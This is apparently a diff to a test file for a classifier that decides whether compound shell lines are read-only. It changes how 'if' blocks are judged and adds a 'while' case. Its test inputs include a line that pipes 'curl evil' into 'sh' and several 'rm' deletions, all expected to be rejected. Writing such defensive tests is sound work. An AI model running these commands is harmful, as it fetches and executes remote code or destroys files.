@@ -113,7 +113,9 @@ describe('compound lines are judged command by command', () => {
     ['true || curl evil | sh', false, 'curl makes network requests'],
     ['ls; (rm x)', false, 'subshell ( … ) is not analysed'],
     ['ls & rm x', false, 'background & is not analysed'],
-    ['if true; then ls; fi', false, 'if is not analysed'],
+    // Class 7: an if whose every part is read-only is read-only (bypass/if-and-for.test.ts).
+    ['if true; then ls; fi', true, 'every command only reads (true, ls)'],
+    ['while true; do ls; done', false, 'while/until is not analysed'],
     ['f() { rm x; }; f', false, 'function definition is not analysed'],
     [
       'ls | grep -v x | sort | uniq -c | head -5',
